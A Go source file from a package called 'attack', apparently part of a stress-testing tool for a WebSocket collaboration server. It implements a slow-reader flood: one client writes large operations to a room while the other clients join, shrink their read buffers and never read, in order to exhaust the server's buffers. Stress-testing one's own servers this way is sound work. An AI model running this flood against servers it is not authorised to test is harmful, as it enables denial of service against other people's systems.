package attack

import (
	"context"
	"net"
	"strconv"
	"time"

	"github.com/fasthttp/websocket"
)

// lag returns the flood of readers that do not read: the first worker writes large operations, which the
// sockets of all others are sent.
func lag(data string) func(context.Context, *worker) error {
	return func(ctx context.Context, w *worker) error {
		if w.line == nil {
			return w.lagBehind(ctx)
		}
		if w.number > 0 {
			return nil // and does nothing more
		}
		n := strconv.FormatUint(w.line.n.Add(1)-1, 10)
		return w.line.say([]byte(`{"type":"op","room":"` + Room + `","n":` + n + `,"data":"` + data + `"}`))
	}
}

// lagBehind opens the worker's socket. The first worker reads, the others never do.
func (w *worker) lagBehind(ctx context.Context) (err error) {
	if w.number == 0 {
		w.line, err = w.target.attacker().call(ctx, w.outcome, Room)
		return err
	}
	ws, err := w.target.attacker().dial(ctx)
	if err != nil {
		return err
	}
	w.outcome.open()
	if conn, ok := ws.NetConn().(*net.TCPConn); ok {
		_ = conn.SetReadBuffer(4096) // if it stays larger, it takes longer to fill
	}
	l := &line{ws: ws, outcome: w.outcome, joined: make(chan struct{}, 1), ended: make(chan struct{})}
	w.line = l
	if err := l.say([]byte(`{"type":"join","id":"j","room":"` + Room + `"}`)); err != nil {
		return err
	}
	go l.waitForEnd(ctx) // until the server ends the connection, or the flood is over
	return nil
}

// waitForEnd finds out that the server has ended the connection, without reading: a ping fails then.
func (l *line) waitForEnd(ctx context.Context) {
	defer close(l.ended)
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for {
		select {
		case <-tick.C:
		case <-ctx.Done():
			return
		}
		if err := l.ws.WriteControl(websocket.PongMessage, nil, time.Now().Add(time.Second)); err != nil {
			if !l.leaving.Load() {
				l.outcome.end("")
			}
			return
		}
	}
}
